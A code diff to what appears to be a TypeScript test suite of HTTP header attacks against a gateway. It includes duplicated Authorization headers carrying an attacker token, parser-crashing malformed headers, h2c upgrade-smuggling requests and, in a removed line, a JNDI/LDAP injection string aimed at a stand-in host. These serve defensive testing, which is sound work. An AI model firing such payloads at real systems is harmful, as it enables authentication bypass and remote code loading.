@@ -30,10 +30,12 @@ export const HEADERS: readonly Attack[] = [
     name: 'the client\'s own credentials beside ours',
     advisory: 'Dapr Header.Add',
     why: 'Two Authorization headers: which one counts differs between the upstream and what stands in front of it.',
-    variants: (target) => target.injected.length === 0 ? [] : [['Authorization'], ['authorization'], ['AUTHORIZATION'], ['aUTHORIZATION'], ['Authorization', 'Authorization'], ['Authorization', 'authorization'], ['Authorization', 'Proxy-Authorization'].slice(0, target.callerToken === undefined ? 2 : 1)].flatMap((names) => ['Bearer', 'Basic', 'Digest username=', ''].map((scheme) => {
-      const lines = names.map((name) => `${name}: ${scheme} ${EVIL}`)
-      return { what: lines.join(', '), bytes: request(target, { lines }), must: passed({ without: [EVIL] }) }
-    }))
+    variants: (target) => target.injected.length === 0
+      ? []
+      : [['Authorization'], ['authorization'], ['AUTHORIZATION'], ['aUTHORIZATION'], ['Authorization', 'Authorization'], ['Authorization', 'authorization'], ['Authorization', 'Proxy-Authorization'].slice(0, target.callerToken === undefined ? 2 : 1)].flatMap((names) => ['Bearer', 'Basic', 'Digest username=', ''].map((scheme) => {
+          const lines = names.map((name) => `${name}: ${scheme} ${EVIL}`)
+          return { what: lines.join(', '), bytes: request(target, { lines }), must: passed({ without: [EVIL] }) }
+        }))
   },
   {
     id: 'H4',
@@ -92,7 +94,7 @@ export const HEADERS: readonly Attack[] = [
     id: 'H10',
     name: 'malformed values of headers that something may read',
     why: 'A cookie, a Referer or a content type that makes a parser throw must cost one request, not the process.',
-    variants: (target) => ['Referer: http://%', 'Referer: \xff\xfe', 'Cookie: =', 'Cookie: ;;;=;', 'Cookie: %', 'Cookie: a="', `Cookie: ${'a;'.repeat(2000)}`, 'Content-Type: ;;;', 'Content-Type: \x80/\x80', 'Accept: ,,,', 'User-Agent: ${jndi:ldap://x}', 'User-Agent: \x9b31m', 'Authorization:', 'Date: x', 'Range: bytes=-', 'If-Modified-Since: never', 'Accept-Language: *;q=', 'Content-Encoding: ,', `X-Long: ${'ä'.repeat(500)}`]
+    variants: (target) => ['Referer: http://%', 'Referer: \xff\xfe', 'Cookie: =', 'Cookie: ;;;=;', 'Cookie: %', 'Cookie: a="', `Cookie: ${'a;'.repeat(2000)}`, 'Content-Type: ;;;', 'Content-Type: \x80/\x80', 'Accept: ,,,', 'User-Agent: \x9b31m', 'Authorization:', 'Date: x', 'Range: bytes=-', 'If-Modified-Since: never', 'Accept-Language: *;q=', 'Content-Encoding: ,', `X-Long: ${'ä'.repeat(500)}`]
       .map((line) => ({ what: JSON.stringify(line.slice(0, 60)), bytes: request(target, { lines: [line] }), must: either([400, 415]) }))
   },
   {
@@ -103,7 +105,7 @@ export const HEADERS: readonly Attack[] = [
     variants: (target) => ['h2c', 'H2C', 'h2c, websocket', 'h2', 'TLS/1.0', 'HTTP/2.0', ' h2c'].map((protocol) => ({
       what: `Upgrade: ${protocol}`,
       bytes: request(target, { lines: ['Connection: Upgrade, HTTP2-Settings', `Upgrade: ${protocol}`, 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA'] }),
-      must: either([400, 403], { without: ['HTTP2-Settings', 'h2c', 'TLS/1.0'] })
+      must: either([400, 403, 415], { without: ['HTTP2-Settings', 'h2c', 'TLS/1.0'] })
     }))
   }
 ]
